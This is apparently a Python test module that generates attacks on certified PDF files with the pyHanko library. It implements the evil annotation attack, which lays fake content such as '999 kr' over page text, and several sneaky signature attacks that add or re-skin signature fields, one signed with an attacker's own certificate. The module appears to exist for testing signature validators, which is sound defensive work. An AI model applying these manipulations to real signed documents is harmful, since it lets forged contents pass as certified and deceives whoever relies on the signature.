"""Attacks on certified files: annotations (EAA) and sneaky signatures (SSA)."""

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

from tests import undertecknad
from tests.attacker.grund import FALSKT, Attack, utokad


def _anmarkning(skrivare: IncrementalPdfFileWriter, slag: str) -> generic.IndirectObject:
    utseende = generic.StreamObject(stream_data=FALSKT)
    utseende[pdf_name("/Type")] = pdf_name("/XObject")
    utseende[pdf_name("/Subtype")] = pdf_name("/Form")
    ruta = generic.ArrayObject(map(generic.NumberObject, (60, 680, 460, 730)))
    utseende[pdf_name("/BBox")] = ruta
    return skrivare.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(slag),
                pdf_name("/Rect"): ruta,
                pdf_name("/Contents"): generic.pdf_string("999 kr"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): skrivare.add_object(utseende)}
                ),
            }
        )
    )


def eaa(slag: str) -> Attack:
    """Lay an annotation over the text of a certified file (evil annotation attack)."""

    def attack(data: bytes) -> bytes:
        def andra(skrivare: IncrementalPdfFileWriter) -> None:
            skrivare.register_annotation(
                skrivare.root["/Pages"]["/Kids"].raw_get(0), _anmarkning(skrivare, slag)
            )

        return utokad(data, andra)

    return attack


def ssa_falt_over_texten(data: bytes) -> bytes:
    """Add a signature field whose appearance covers the text (sneaky signature attack)."""

    def andra(skrivare: IncrementalPdfFileWriter) -> None:
        falt = fields.SigFieldSpec("smyg", box=(60, 680, 460, 730), empty_field_appearance=True)
        fields.append_signature_field(skrivare, falt)

    return utokad(data, andra)


def ssa_underskrift_over_texten(data: bytes) -> bytes:
    """The same, and sign it with a certificate of the attacker's own."""
    return undertecknad.skriv_under(ssa_falt_over_texten(data), "smyg", "Ordförande")


def ssa_tomt_falt_utseende(data: bytes) -> bytes:
    """Give an empty or signed field of the file an appearance of the attacker's own."""

    def andra(skrivare: IncrementalPdfFileWriter) -> None:
        falt = skrivare.root["/AcroForm"]["/Fields"][-1].get_object()
        utseende = generic.StreamObject(stream_data=FALSKT)
        utseende[pdf_name("/Subtype")] = pdf_name("/Form")
        utseende[pdf_name("/BBox")] = generic.ArrayObject(
            map(generic.NumberObject, (0, 0, 595, 842))
        )
        falt["/AP"] = generic.DictionaryObject({pdf_name("/N"): skrivare.add_object(utseende)})
        skrivare.update_container(falt)

    return utokad(data, andra)
